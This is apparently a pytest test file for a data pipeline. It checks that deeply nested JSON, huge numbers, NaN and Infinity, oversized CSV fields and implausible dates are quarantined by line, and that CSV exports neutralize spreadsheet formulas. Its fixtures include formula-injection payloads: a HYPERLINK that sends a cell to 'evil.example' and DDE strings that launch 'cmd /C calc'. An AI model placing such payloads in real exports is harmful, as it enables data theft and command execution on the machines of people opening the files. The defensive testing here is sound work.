"""Issue 18, case 5 (hostile or odd input): a JSON line nested 1,000 levels deep crashed events ingestion
with RecursionError (no file or line named), one 5,000-digit integer or one CSV field over 128 KB made a
whole file of good rows unreadable, NaN / Infinity became NULL silently, events dated 9999-12-31 became a
person's first and last seen, and spreadsheet formulas in CRM names flowed unchanged into CSV exports.
Each is now a quarantine reason naming file and line (the good rows of the file load), or neutralized."""

from __future__ import annotations

import csv
import gzip
import json
from pathlib import Path

import duckdb
import pytest

from reverse_etl.destinations.file_export import neutralized_csv_select
from reverse_etl.engine import run_sync
from sen.contracts import load_contract
from sen.ingest import load_source
from tests.conftest import SAMPLE_DIR
from tests.reverse_etl.retl_helpers import base_sync, make_audience, sync_from

CONTRACT = load_contract()
EVENTS = CONTRACT.sources["events"]
GOOD_EVENTS = 50


def event(i: int, **extra: object) -> dict:
    return {
        "messageId": f"m-{i}",
        "type": "track",
        "event": "Product Viewed",
        "anonymousId": f"anon-{i}",
        "timestamp": "2026-11-01T10:00:00Z",
        "properties": {"sku": "APP-10076"},
        **extra,
    }


def events_file(tmp_path: Path, bad_lines: list[str]) -> tuple[Path, dict[int, str]]:
    """A JSON-lines file of good events with the bad lines spread among them; returns the file and the line
    number of each bad line."""
    folder = tmp_path / "data" / "events"
    folder.mkdir(parents=True)
    lines = [json.dumps(event(i)) for i in range(GOOD_EVENTS)]
    where = {}
    for k, bad in enumerate(bad_lines):
        at = 5 + k * 7
        lines.insert(at, bad)
        where[at + 1] = bad
    path = folder / "day.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path, where


def quarantine_of(conn: duckdb.DuckDBPyConnection, source: str) -> dict[int, tuple[str, str]]:
    return {
        line: (path, reason)
        for path, line, reason in conn.execute(
            "select file_path, line, reason from raw._quarantine where source = ?", [source]
        ).fetchall()
    }


def test_hostile_json_lines_are_quarantined_one_by_one(tmp_path):
    deep = '{"messageId": "deep", "type": "track", "timestamp": "2026-11-01T10:00:00Z", "properties": ' + (
        "[" * 1000 + "]" * 1000 + "}"
    )
    assert 1900 < len(deep) < 2200  # the ~2 KB line of the issue
    huge_number = json.dumps(event(900))[:-1] + ', "context": {"n": ' + "9" * 5000 + "}}"
    nan = json.dumps(event(901))[:-1] + ', "context": {"price": NaN}}'
    infinity = '{"messageId": "m-902", "type": "track", "timestamp": "2026-11-01T10:00:00Z", "properties": {"v": -Infinity}}'
    overflow = '{"messageId": "m-903", "type": "track", "timestamp": "2026-11-01T10:00:00Z", "properties": {"v": 1e999}}'
    moderately_deep = json.dumps(event(904, properties={"a": json.loads("[" * 80 + "]" * 80)}))
    path, where = events_file(tmp_path, [deep, huge_number, nan, infinity, overflow, moderately_deep])
    conn = duckdb.connect()
    result = load_source(conn, EVENTS, tmp_path / "data")  # no RecursionError, no unreadable file
    assert result.files_unreadable == {}
    assert result.rows_loaded == GOOD_EVENTS and result.rows_quarantined == len(where)
    quarantine = quarantine_of(conn, "events")
    assert set(quarantine) == set(where)
    expected = [
        "nested deeper than 64",
        "5,000 digits",
        "NaN is not a JSON number",
        "-Infinity is not",
        "1e999 is not finite",
        "nested deeper than 64",
    ]
    for line, text in zip(sorted(where), expected, strict=True):
        file_path, reason = quarantine[line]
        assert file_path == str(path)
        assert reason.startswith("JSON beyond a parsing limit") and text in reason, (line, reason)
    # The next run does not retry or crash: the file is recorded as loaded.
    again = load_source(conn, EVENTS, tmp_path / "data")
    assert again.files_already_loaded == [str(path)] and again.rows_in == 0


def test_implausible_timestamps_are_quarantined_not_first_seen(tmp_path):
    lines = [
        json.dumps(event(910, timestamp="9999-12-31T23:59:59Z")),
        json.dumps(event(911, timestamp="1970-01-01T00:00:00Z")),
        json.dumps(event(912, timestamp="2026-11-01T10:00:00Z", sentAt="0001-01-01T00:00:00Z")),
    ]
    path, where = events_file(tmp_path, lines)
    conn = duckdb.connect()
    result = load_source(conn, EVENTS, tmp_path / "data")
    assert result.rows_loaded == GOOD_EVENTS
    quarantine = quarantine_of(conn, "events")
    reasons = [quarantine[line][1] for line in sorted(where)]
    assert reasons[0].startswith("field timestamp: in the future") and "9999-12-31" in reasons[0]
    assert reasons[1].startswith("field timestamp: before 1990-01-01, outside the plausible window")
    assert reasons[2].startswith("field sent_at: before 1990-01-01")
    latest = conn.execute("select max(timestamp::timestamptz) from raw.events").fetchall()[0][0]
    assert latest.year == 2026  # nothing from 9999 can become anyone's last seen


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([header, *rows])


def sample_rows(source: str, n: int) -> tuple[list[str], list[list[str]]]:
    with open(SAMPLE_DIR / source / f"{source}.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[11 : 11 + n]  # past the sample's planted bad rows


def test_one_oversized_or_non_finite_csv_value_quarantines_its_row_only(tmp_path):
    header, rows = sample_rows("orders", 40)
    col = {name: i for i, name in enumerate(header)}
    rows[3][col["total"]] = "9" * 5000  # a 5,000-digit number
    rows[6][col["shipping_city"]] = "x" * 200_000  # beyond the csv module's 128 KB field limit
    rows[9][col["subtotal"]] = "NaN"
    rows[12][col["total"]] = "Infinity"
    rows[15][col["created_at"]] = "9999-12-31 00:00:00"
    rows[18][col["shipping_city"]] = "y" * 5000  # beyond the 4,096-character value limit
    path = tmp_path / "data" / "orders" / "orders.csv"
    write_csv(path, header, rows)
    conn = duckdb.connect()
    result = load_source(conn, CONTRACT.sources["orders"], tmp_path / "data")
    assert result.files_unreadable == {}
    assert result.rows_loaded == 34 and result.rows_quarantined == 6
    quarantine = quarantine_of(conn, "orders")
    expected = {
        5: "field total: value too long (5000 characters, limit 4,096)",
        8: "field shipping_city: value too long (200000 characters, limit 4,096)",
        11: "field subtotal: not a finite number: NaN",
        14: "field total: not a finite number: Infinity",
        17: "field created_at: in the future (after ",
        20: "field shipping_city: value too long (5000 characters, limit 4,096)",
    }
    assert set(quarantine) == set(expected)
    for line, reason in expected.items():
        assert quarantine[line][1].startswith(reason), (line, quarantine[line][1][:200])
    assert all(p == str(path) for p, _ in quarantine.values())


def test_a_gzipped_events_file_with_a_hostile_line_keeps_its_good_rows(tmp_path):
    folder = tmp_path / "data" / "events"
    folder.mkdir(parents=True)
    with gzip.open(folder / "2026-11-01.jsonl.gz", "wt", encoding="utf-8") as handle:
        for i in range(10):
            handle.write(json.dumps(event(i)) + "\n")
        handle.write("[" * 5000 + "]" * 5000 + "\n")
    conn = duckdb.connect()
    result = load_source(conn, EVENTS, tmp_path / "data")
    assert result.rows_loaded == 10 and result.rows_quarantined == 1 and not result.files_unreadable
    assert (
        quarantine_of(conn, "events")[11][1]
        == "JSON beyond a parsing limit: JSON nested deeper than 64 levels"
    )


FORMULAS = {
    "p000000": (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ),
    "p000001": ("+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(1+1)*cmd|' /C calc'!A0"),
    "p000002": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "p000003": ("@SUM(1+1)", "'@SUM(1+1)"),
    "p000004": ("@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"),
    "p000005": ("=1+1", "'=1+1"),
    "p000006": ("-5", "-5"),  # a number is no formula
    "p000007": ("+84912345678", "+84912345678"),  # nor is a phone in E.164
    "p000008": ("Nguyễn = Văn", "Nguyễn = Văn"),
}


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_csv_exports_neutralize_formula_prefixes(tmp_path, fmt):
    conn = duckdb.connect()
    make_audience(conn, len(FORMULAS))
    for person, (name, _) in FORMULAS.items():
        conn.execute("update audience_test set display_name = ? where person_id = ?", [name, person])
    cfg = sync_from(
        base_sync(
            "sheet_export",
            {"type": "file_export", "directory": str(tmp_path), "format": fmt},
            {"name": "display_name", "phone": "phone"},
        )
    )
    result = run_sync(conn, cfg)
    if fmt == "parquet":  # typed: no spreadsheet evaluates a Parquet cell, values stay as they are
        got = dict(duckdb.sql(f"select person_id, name from '{result.output_file}'").fetchall())
        assert got == {p: name for p, (name, _) in FORMULAS.items()}
        return
    with open(result.output_file, newline="", encoding="utf-8") as handle:
        got = {row["person_id"]: row for row in csv.DictReader(handle)}
    assert {p: row["name"] for p, row in got.items()} == {p: safe for p, (_, safe) in FORMULAS.items()}
    assert got["p000001"]["phone"].startswith("+849")  # phones keep their + (a number, not a formula)


def test_tab_and_carriage_return_prefixes_are_neutralized_too(tmp_path):
    """The sync trims names, so a leading tab or CR reaches the export only from a model's own column; the
    export neutralizes them as well."""
    conn = duckdb.connect()
    conn.execute(
        "create table t as select * from (values ('a', chr(9) || '=1+1'), ('b', chr(13) || '=1+1'), ('c', 'ok'))"
        " v(id, name)"
    )
    out = tmp_path / "t.csv"
    sql = neutralized_csv_select(conn, "select id, name, 42 as n from t")
    conn.execute(f"copy ({sql}) to '{out}' (format csv, header true)")
    with open(out, newline="", encoding="utf-8") as handle:
        got = {row["id"]: (row["name"], row["n"]) for row in csv.DictReader(handle)}
    assert got == {"a": ("'\t=1+1", "42"), "b": ("'\r=1+1", "42"), "c": ("ok", "42")}
